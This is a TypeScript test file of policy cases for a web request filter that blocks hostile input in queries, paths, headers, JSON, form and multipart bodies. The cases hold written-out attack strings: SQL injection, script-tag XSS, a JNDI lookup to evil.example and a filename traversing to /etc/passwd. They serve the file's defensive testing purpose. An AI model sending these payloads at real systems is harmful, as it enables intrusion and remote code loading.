// What the hostile-input policy does, as data. The rules have tests of their own.
import type { HostileInputSettings } from "@holdfast/contract";
import { type CaseCall, type PolicyCase, publicRoute } from "../case.ts";

const settings: HostileInputSettings = {
  mode: "block",
  skip: [],
  headers: ["user-agent"],
  body: true,
  headers_most: 5,
};
const subject = { ...publicRoute, checks: { hostile: settings } };
const ATTACK = "' or '1'='1";

const sent = (body: string, type: string, gives: CaseCall["gives"], more: string[] = []): CaseCall => ({
  method: "POST",
  body,
  request_headers: ["content-type", type, ...more],
  gives,
});

const part = (disposition: string, text: string) =>
  `--edge\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${text}\r\n`;
const upload = (parts: string, gives: CaseCall["gives"]): CaseCall => {
  const body = `${parts}--edge--\r\n`;
  return { ...sent(body, "multipart/form-data; boundary=edge", gives), content_length: Buffer.byteLength(body) };
};

export const cases: PolicyCase[] = [
  {
    name: "in the query, once or twice encoded, in names as well",
    subject,
    calls: [
      { query: "name=O%27Brien&seat=SELECT+your+seat", gives: "pass" },
      { query: `q=${encodeURIComponent(ATTACK)}`, gives: "request_hostile" },
      { query: `q=${encodeURIComponent(encodeURIComponent(ATTACK))}`, gives: "request_hostile" },
      { query: `${encodeURIComponent(ATTACK)}=1`, gives: "request_hostile" },
      { query: "q=%00", gives: "request_hostile" },
      { query: "q=1+or+1%3D1", gives: "request_hostile" },
    ],
  },
  {
    name: "in the path",
    subject,
    calls: [
      { path: "/orders/1", gives: "pass" },
      { path: "/orders/%3Cscript%3E", gives: "request_hostile" },
    ],
  },
  {
    name: "in headers that are looked at",
    subject,
    calls: [
      { request_headers: ["User-Agent", "${jndi:ldap://evil.example/a}"], gives: "request_hostile" },
      { request_headers: ["X-Other", "${jndi:ldap://evil.example/a}"], gives: "pass" },
      {
        request_headers: Array.from({ length: 6 }, (_, index) => [`x-${index}`, "1"]).flat(),
        gives: "request_hostile",
      },
    ],
  },
  {
    name: "in bodies",
    subject,
    calls: [
      sent(JSON.stringify({ a: [{ b: ATTACK }] }), "application/json", "request_hostile"),
      sent(JSON.stringify({ a: "\u003cscript>x" }).replace("<", "\\u003c"), "application/json", "request_hostile"),
      sent(JSON.stringify({ comment: "SELECT * FROM orders; it's fine" }), "application/json", "pass"),
      sent(`a=1&b=${encodeURIComponent(ATTACK)}`, "application/x-www-form-urlencoded", "request_hostile"),
      sent("<script>alert(1)</script>", "text/plain", "request_hostile"),
      sent(ATTACK, "application/octet-stream", "pass"),
      sent(`{"a": "${ATTACK}"`, "application/json", "request_hostile"),
    ],
  },
  {
    name: "in the parts of an upload: fields, names and names of files, and not what is in the files",
    subject,
    calls: [
      upload(part('name="comment"', "it's fine") + part('name="file"; filename="a.bin"', `\0 ${ATTACK}`), "pass"),
      upload(part('name="comment"', ATTACK), "request_hostile"),
      upload(part(`name="${ATTACK}"`, "1"), "request_hostile"),
      upload(part('name="file"; filename="../../../etc/passwd"', "x"), "request_hostile"),
      sent(part('name="comment"', "no end"), "multipart/form-data; boundary=edge", "malformed_request"),
    ],
  },
  {
    name: "bodies that hide what they say",
    subject,
    calls: [
      sent("x", "application/json", "unsupported_media_type", ["content-encoding", "gzip"]),
      sent("x", "application/x-www-form-urlencoded; charset=ibm037", "unsupported_media_type"),
      sent("x", 'text/xml; charset=utf-8; charset="UTF-7"', "unsupported_media_type"),
      sent("x", "application/json; charset=ISO-8859-1", "pass"),
      sent("x", "application/octet-stream", "pass", ["content-encoding", "gzip"]),
    ],
  },
  {
    name: "rules that are left out",
    subject: { ...publicRoute, checks: { hostile: { ...settings, skip: ["sql-injection"] } } },
    calls: [
      { query: "q=1+or+1%3D1", gives: "pass" },
      { query: "q=%3Cscript%3E", gives: "request_hostile" },
    ],
  },
  {
    name: "who only observes refuses nothing",
    subject: { ...publicRoute, checks: { hostile: { ...settings, mode: "observe" } } },
    calls: [
      { query: "q=1+or+1%3D1", gives: "pass" },
      sent(ATTACK, "text/plain", "pass"),
      sent("x", "application/json", "pass", ["content-encoding", "gzip"]),
    ],
  },
];
